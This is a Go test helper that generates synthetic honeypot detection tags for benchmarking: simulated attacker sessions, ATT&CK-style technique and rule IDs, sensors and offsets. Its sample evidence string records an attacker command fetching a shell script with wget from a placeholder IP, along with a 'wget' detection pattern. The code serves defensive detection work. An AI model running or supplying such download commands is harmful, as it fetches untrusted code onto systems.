package projectiontest

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"strings"

	"github.com/google/uuid"

	"github.com/ttpstream/ttpstream/projections"
	"github.com/ttpstream/ttpstream/schemas/schematest"
)

// Traffic makes tags as a busy set of honeypots does, for benchmarks: sessions
// of some twenty commands, most attackers new, some back every day, forty rules
// of which few do most of the work, twenty sensors, an event every 50 ms. Equal
// seeds make equal tags. Not safe for concurrent use.
type Traffic struct {
	random   *rand.Rand
	n        int64
	sessions []visit // open ones
	visits   int64
}

// visit is a session under way.
type visit struct {
	attacker uuid.UUID
	session  string
	sensor   string
	left     int
}

const (
	// openSessions is how many go on at the same time.
	openSessions = 40
	// regulars is how many attackers come back.
	regulars = 20_000
	// trafficRules is how many rules there are.
	trafficRules = 40
)

// NewTraffic returns the traffic of a seed.
func NewTraffic(seed uint64) *Traffic {
	return &Traffic{random: rand.New(rand.NewPCG(seed, 1)), sessions: make([]visit, openSessions)}
}

// Tag returns the next tag, of one partition.
func (g *Traffic) Tag(partition int32) *projections.TagRow {
	v := &g.sessions[g.random.IntN(openSessions)]
	if v.left == 0 {
		*v = g.visit()
	}
	v.left--
	g.n++
	// Rule k is hit as often as all that come after it.
	rule := min(int(g.random.ExpFloat64()*5), trafficRules-1)
	technique := fmt.Sprintf("T1%03d", rule)
	return &projections.TagRow{
		UUID: g.id(), Finding: g.id(), SourceKind: "command", SourceID: g.id().String(),
		AttackerUUID: v.attacker, SessionID: v.session, Sensor: v.sensor,
		Tactic: fmt.Sprintf("TA00%02d", rule%14), TechniqueID: technique, SubTechniqueID: technique + ".001",
		Step: 60 + rule, RuleID: fmt.Sprintf("R%04d", rule), RuleVersion: 1, RuleHash: schematest.RuleHash, AttackRelease: "enterprise-v19.1",
		Evidence:  `{"matched_tokens":[{"field":"cmd.line","text":"wget http://203.0.113.9/` + strings.Repeat("x", g.random.IntN(40)) + `.sh","pattern":"wget"}]}`,
		CreatedAt: schematest.Time.UnixNano() + g.n*50e6, Content: g.n, Origin: "live", Revision: 40,
		SourceTopic: "attacker.command", SourcePartition: partition, SourceOffset: g.n, TaggedPartition: partition, TaggedOffset: g.n,
	}
}

func (g *Traffic) visit() visit {
	g.visits++
	attacker := g.id()
	if g.random.IntN(3) == 0 { // a regular
		attacker = uuid.NewSHA1(uuid.NameSpaceOID, fmt.Append(nil, g.random.IntN(regulars)))
	}
	return visit{attacker, fmt.Sprintf("%012x", g.random.Uint64()>>16), fmt.Sprintf("sensor-%02d", g.random.IntN(20)), 1 + g.random.IntN(40)}
}

func (g *Traffic) id() (id uuid.UUID) {
	binary.LittleEndian.PutUint64(id[:8], g.random.Uint64())
	binary.LittleEndian.PutUint64(id[8:], g.random.Uint64())
	return id
}

// Batch returns the next n tags as a batch of the claim, and moves the claim.
func (g *Traffic) Batch(claim *projections.Claim, n int) projections.Batch {
	b := projections.Batch{Claim: *claim, Next: max(claim.Next, 0) + int64(n)}
	for i := range n {
		b.Entries = append(b.Entries, projections.Entry{Offset: b.Claim.Next + int64(i), Tag: g.Tag(claim.Partition)})
	}
	claim.Next = b.Next
	return b
}
